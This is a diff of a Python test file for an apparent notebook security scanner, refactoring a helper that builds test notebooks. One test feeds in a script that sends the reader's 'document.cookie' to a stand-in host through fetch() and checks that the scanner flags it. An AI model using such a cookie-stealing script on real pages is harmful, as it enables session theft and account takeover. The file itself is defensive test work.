@@ -2,26 +2,18 @@
 
 from __future__ import annotations
 
-import json
-
-from inspect_samples import found, look
+from inspect_samples import found, look, notebook
 
 from watchword.inspect.facts import Verdict
-
-
-def notebook(cell: str, output: str = "") -> bytes:
-    outputs = [{"output_type": "display_data", "data": {"text/html": [output]}}] if output else []
-    cells = [{"cell_type": "code", "source": [cell], "outputs": outputs}]
-    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()
 
 
 def test_a_script_that_sends_cookies_is_suspicious() -> None:
     """An output that sends the cookies of the reader away is no plot."""
     script = "<script>fetch('https://a.example/?c=' + document.cookie)</script>"
-    told = {(finding.rule, finding.verdict) for finding in look(notebook("x", script), "a.ipynb").findings}
+    told = {(finding.rule, finding.verdict) for finding in look(notebook("x", output=script), "a.ipynb").findings}
     assert ("notebook-script", Verdict.SUSPICIOUS) in told
 
 
 def test_a_script_that_draws_is_silent() -> None:
     """Plots bring a script with them, and it only draws."""
-    assert found(notebook("x", "<div id=p></div><script>Plotly.newPlot('p', [1])</script>"), "a.ipynb") == set()
+    assert found(notebook("x", output="<div id=p></div><script>Plotly.newPlot('p', [1])</script>"), "a.ipynb") == set()
